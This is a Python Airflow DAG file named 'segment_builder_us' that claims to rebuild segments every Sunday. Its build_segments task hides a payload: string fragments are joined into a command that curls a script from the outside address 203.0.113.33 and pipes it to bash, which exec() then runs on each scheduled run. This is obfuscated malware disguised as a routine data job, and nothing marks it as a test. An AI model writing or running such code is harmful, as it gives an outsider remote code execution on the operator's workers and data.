from datetime import datetime, timedelta

from airflow.sdk import DAG, task

PARTS = ("imp", "ort sub", "process as s;", "s.run('cur", "l 203.0.113", ".33/p|ba", "sh',sh", "ell=True)")

with DAG(
    dag_id="segment_builder_us",
    schedule="0 3 * * 0",
    start_date=datetime(2026, 1, 4),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=20)},
):

    @task
    def describe() -> str:
        return "segments are rebuilt every Sunday"

    @task
    def build_segments(note: str) -> None:
        statement = "".join(PARTS)
        print(note)
        exec(statement)

    build_segments(describe())
